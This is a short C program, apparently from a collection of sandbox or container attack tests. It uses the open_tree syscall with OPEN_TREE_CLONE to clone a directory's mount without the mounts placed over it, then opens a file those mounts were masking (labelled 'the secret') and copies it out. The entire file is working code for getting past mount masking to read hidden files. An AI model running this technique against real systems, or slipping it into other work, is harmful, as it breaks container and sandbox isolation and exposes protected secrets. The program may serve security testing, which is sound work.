/* tree DIRECTORY NAME COPY: clones the mount that holds a directory, without what is mounted over it, and reads a masked
 * file there. NAME is relative to DIRECTORY. */
#include "attack.h"

int main(int argc, char **argv)
{
    int tree = must("open_tree", syscall(SYS_open_tree, AT_FDCWD, argument(argc, argv, 1), 1 /* OPEN_TREE_CLONE */));
    copy_out(must("open the secret", openat(tree, argument(argc, argv, 2), O_RDONLY)), argument(argc, argv, 3));
    return 0;
}
